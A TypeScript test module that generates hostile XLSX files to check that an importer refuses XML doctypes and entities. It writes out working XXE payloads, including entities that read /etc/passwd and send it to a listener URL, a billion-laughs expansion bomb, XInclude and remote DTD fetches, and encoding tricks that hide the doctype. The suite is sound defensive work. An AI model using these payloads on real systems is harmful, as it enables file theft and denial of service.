import {
  contentTypes,
  relationships,
  sharedStringsXml,
  sheetXml,
  stylesXml,
  workbookXml,
} from '../../sheet/xlsx/makeWorkbook.ts';
import { type Ending, type HostileFile, hostileFiles, type Maker } from './hostileFile.ts';
import { registerBook, rowsXml } from './registerBook.ts';

const SHEET = 'xl/worksheets/sheet1.xml';
const REFUSED: readonly Ending[] = [
  'XML_FORBIDDEN',
  'CORRUPT_FILE',
  'ENCODING_UNKNOWN',
  'UNSUPPORTED_FORMAT',
];

const PARTS: Readonly<Record<string, string>> = {
  '[Content_Types].xml': contentTypes(),
  '_rels/.rels': relationships(['rId1', 'officeDocument', 'xl/workbook.xml']),
  'xl/workbook.xml': workbookXml('<sheet name="Sheet1" sheetId="1" r:id="rId1"/>'),
  'xl/_rels/workbook.xml.rels': relationships(
    ['rId1', 'worksheet', 'worksheets/sheet1.xml'],
    ['rId2', 'sharedStrings', 'sharedStrings.xml'],
    ['rId3', 'styles', 'styles.xml'],
  ),
  'xl/styles.xml': stylesXml(0),
  'xl/sharedStrings.xml': sharedStringsXml('Invoice'),
  [SHEET]: sheetXml(rowsXml()),
};

/** External and internal entities in every part that is read, also in encodings that hide them (threats 24 and 25). */
export const doctypes: Maker = ({ listener }) => {
  const system = `<!DOCTYPE a [<!ENTITY xxe SYSTEM "${listener}/xxe">]>`;
  const kinds: Readonly<Record<string, string>> = {
    'a file': '<!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    'a public name': `<!DOCTYPE a [<!ENTITY xxe PUBLIC "a" "${listener}/xxe">]>`,
    'an outer subset': `<!DOCTYPE a SYSTEM "${listener}/a.dtd">`,
    'a parameter entity': `<!DOCTYPE a [<!ENTITY % remote SYSTEM "${listener}/a.dtd">%remote;]>`,
    'a parameter entity that takes a file along': `<!DOCTYPE a [<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY % all "<!ENTITY send SYSTEM '${listener}/?%file;'>">%all;]>`,
    'no entity': '<!DOCTYPE worksheet>',
    'small letters': '<!doctype worksheet>',
    'a comment in front': `<!--${'x'.repeat(70_000)}-->${system}`,
    'blanks in front': `${' '.repeat(70_000)}${system}`,
    'a billion laughs': laughs(),
    'one long entity, often': `<!DOCTYPE a [<!ENTITY a "${'x'.repeat(100_000)}">]>`,
  };
  const files: HostileFile[] = hostileFiles(
    { kind: 'doctype', threat: 24, declared: 'XLSX' },
    {
      ...Object.fromEntries(
        Object.keys(PARTS).map((part) => [
          `in ${part}`,
          ['XML_FORBIDDEN', () => registerBook({ [part]: withDoctype(part, system) })] as const,
        ]),
      ),
      ...Object.fromEntries(
        Object.entries(kinds).map(([kind, doctype]) => [
          `in the sheet: ${kind}`,
          [
            /small letters|in front/.test(kind) ? REFUSED : 'XML_FORBIDDEN',
            () => registerBook({ [SHEET]: withDoctype(SHEET, doctype) }),
          ] as const,
        ]),
      ),
      'behind the root': [
        ['XML_FORBIDDEN', 'CORRUPT_FILE'],
        () => registerBook({ [SHEET]: `${PARTS[SHEET]}${system}` }),
      ],
      'inside the root': [
        ['XML_FORBIDDEN', 'CORRUPT_FILE'],
        () => registerBook({ [SHEET]: String(PARTS[SHEET]).replace('<sheetData>', `${system}<sheetData>`) }),
      ],
      'an entity without a doctype': [
        ['XML_FORBIDDEN', 'CORRUPT_FILE', 'rows'],
        () => registerBook({ [SHEET]: String(PARTS[SHEET]).replace('Ganga', '&xxe;') }),
      ],
      'an instruction that names a style sheet': [
        'rows',
        () =>
          registerBook({
            [SHEET]: prefixed(SHEET, `<?xml-stylesheet href="${listener}/a.xsl" type="text/xsl"?>`),
          }),
      ],
      'a schema elsewhere': [
        'rows',
        () =>
          registerBook({
            [SHEET]: String(PARTS[SHEET]).replace(
              '<worksheet ',
              `<worksheet xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="a ${listener}/a.xsd" `,
            ),
          }),
      ],
      'an inclusion': [
        ['rows', 'CORRUPT_FILE'],
        () =>
          registerBook({
            [SHEET]: String(PARTS[SHEET]).replace(
              '<sheetData>',
              `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${listener}/a.xml"/><sheetData>`,
            ),
          }),
      ],
    },
  );
  return [...files, ...hostileFiles({ kind: 'doctype in', threat: 24, declared: 'XLSX' }, encoded(system))];
};

/** The same doctype where a reader that looks for bytes of ASCII does not see it. */
function encoded(doctype: string): Readonly<Record<string, readonly [readonly Ending[], () => Buffer]>> {
  const xml = withDoctype(SHEET, doctype).replace(/^<\?xml[^>]*>\s*/, '');
  const book = (bytes: Buffer) => () => registerBook({ [SHEET]: bytes });
  const wide = (head: string) => Buffer.from(head + xml, 'utf16le');
  return {
    'UTF-16, little end first': [REFUSED, book(wide('\ufeff<?xml version="1.0" encoding="UTF-16"?>'))],
    'UTF-16, big end first': [REFUSED, book(wide('\ufeff<?xml version="1.0" encoding="UTF-16"?>').swap16())],
    'UTF-16 without a mark': [REFUSED, book(wide('<?xml version="1.0" encoding="UTF-16LE"?>'))],
    'UTF-16 that is not declared': [REFUSED, book(wide(''))],
    'UTF-7': [
      REFUSED,
      book(Buffer.from(`<?xml version="1.0" encoding="UTF-7"?>${xml.replace('<!DOCTYPE', '+ADw-!DOCTYPE')}`)),
    ],
    'UTF-32': [
      REFUSED,
      book(
        Buffer.from([
          0,
          0,
          0xfe,
          0xff,
          ...Array.from(xml, (letter) => [0, 0, 0, letter.charCodeAt(0) & 0xff]).flat(),
        ]),
      ),
    ],
    EBCDIC: [REFUSED, book(Buffer.from([0x4c, 0x6f, 0xa7, 0x94, 0x93, ...Buffer.from(xml)]))],
    'a declared EBCDIC': [REFUSED, book(Buffer.from(`<?xml version="1.0" encoding="IBM037"?>${xml}`))],
    'Latin-1': [REFUSED, book(Buffer.from(`<?xml version="1.0" encoding="ISO-8859-1"?>${xml}`, 'latin1'))],
    'UTF-8 that says it is UTF-16': [
      REFUSED,
      book(Buffer.from(`<?xml version="1.0" encoding="UTF-16"?>${xml}`)),
    ],
    'UTF-8 with a mark': [['XML_FORBIDDEN'], book(Buffer.from(`\ufeff${xml}`))],
  };
}

function withDoctype(part: string, doctype: string): string {
  return prefixed(part, doctype).replace('Ganga', '&xxe;');
}

function prefixed(part: string, text: string): string {
  return String(PARTS[part]).replace(/(\?>\s*)/, (end) => end + text);
}

function laughs(): string {
  const levels = Array.from({ length: 9 }, (_, at) => `<!ENTITY a${at + 1} "${`&a${at};`.repeat(10)}">`);
  return `<!DOCTYPE a [<!ENTITY a0 "ha">${levels.join('')}<!ENTITY xxe "&a9;">]>`;
}
